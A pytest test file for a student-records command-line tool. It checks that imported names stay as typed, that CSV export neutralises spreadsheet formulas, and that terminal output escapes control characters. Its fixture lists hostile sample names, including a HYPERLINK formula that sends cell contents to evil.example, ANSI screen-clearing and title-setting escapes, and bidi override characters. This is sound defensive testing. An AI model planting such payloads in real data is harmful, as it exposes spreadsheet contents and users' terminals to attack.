"""Names that are formulas or carry control characters, through the real command line: CSV
output never lets a spreadsheet run them, the terminal never receives a raw control
character, JSON stays exact, and import keeps them as typed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from campuscard_gui.cli.commands import main
from campuscard_gui.cli.output import terminal_text
from campuscard_gui.config import Paths

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NAMES = {
    "2099000001": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "2099000002": "+86 138 0000",
    "2099000003": "-1+2",
    "2099000004": "@SUM(1)",
    "2099000005": "\t=1+1",
    "2099000006": "\r=1+1",
    "2099000007": " =1+1",
    "2099000008": "张\x1b[2J\x1b]0;pwned\x07三",
    "2099000009": "王\u202e五六",
    "2099000010": "赵\n钱",
    "2099000011": "孙\x9b31m李",
}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def hostile(paths: Paths, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Paths:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["学号", "姓名", "学院", "班级", "学籍状态"])
    for no, name in NAMES.items():
        writer.writerow([no, name, "=1+2", "@班", "在读"])
    f = tmp_path / "hostile.csv"
    f.write_bytes(buf.getvalue().encode("utf-8-sig"))
    code, _, err = run(capsys, "local", "import", str(f), "--yes")
    assert code == 0, err
    return paths


def test_import_keeps_names_as_typed_and_json_is_exact(
        hostile: Paths, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "students", "--format", "json")
    assert code == 0
    assert {d["student_no"]: d["name"] for d in json.loads(out)} == NAMES


def test_students_csv_neutralizes_formulas(hostile: Paths,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "students", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(NAMES)
    for row in rows:
        name = NAMES[row["student_no"]]
        expected = "'" + name if name.startswith(FORMULA_START) else name
        assert row["name"] == expected
        assert row["college"] == "'=1+2" and row["class"] == "'@班"
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(FORMULA_START) for cell in cells)
    assert sum(cell.startswith("'") for cell in cells) == 6 + 2 * len(NAMES)
    assert any(row["name"] == " =1+1" for row in rows)  # its space is kept, nothing added


def test_terminal_output_escapes_control_characters(
        hostile: Paths, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "students")
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e\r\t")
    assert "张\\x1b[2J\\x1b]0;pwned\\x07三" in out and "王\\u202e五六" in out
    assert "赵\\x0a钱" in out and "孙\\x9b31m李" in out
    assert len(out.splitlines()) == len(NAMES) + 2  # header, one line a student, the count

    ids = tmp_path / "ids.txt"
    ids.write_text("\n".join(NAMES) + "\n", encoding="utf-8")
    code, out, err = run(capsys, "open", "--ids", str(ids), "--yes", "--format", "json")
    assert code == 0, err
    job_id = json.loads(out)["job_id"]
    code, out, _ = run(capsys, "jobs", "show", str(job_id))
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e\r\t")
    assert "张\\x1b[2J" in out and len(out.splitlines()) == len(NAMES) + 2

    code, out, _ = run(capsys, "jobs", "show", str(job_id), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {r["student_no"]: r["name"] for r in rows} == {
        no: "'" + n if n.startswith(FORMULA_START) else n for no, n in NAMES.items()}
    assert {r["outcome"] for r in rows} == {"succeeded"}


def test_row_errors_quote_the_file_escaped(paths: Paths, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    f = tmp_path / "bad.csv"
    f.write_text("学号,姓名,学籍状态\n1,甲,\x1b[2J在读\n", encoding="utf-8")
    code, _, err = run(capsys, "local", "import", str(f), "--yes")
    assert code == 1
    assert "\x1b" not in err and "学籍状态无法识别：\\x1b[2J在读" in err


@pytest.mark.parametrize(("text", "shown"), [
    ("plain 张三", "plain 张三"), ("a\x00b", "a\\x00b"), ("\x7f", "\\x7f"),
    ("\u200f", "\\u200f"), ("\u2066x\u2069", "\\u2066x\\u2069"), ("\ud800", "\\ud800"),
    ("a\\x1b", "a\\x1b"),
])
def test_terminal_text(text: str, shown: str) -> None:
    assert terminal_text(text) == shown


def test_json_with_a_lone_surrogate_is_exact() -> None:
    from campuscard_gui.cli.output import dump_json

    buf = io.StringIO()
    dump_json({"name": "李\ud800四"}, buf)
    buf.getvalue().encode("utf-8")  # writable to any UTF-8 stream
    assert json.loads(buf.getvalue()) == {"name": "李\ud800四"}
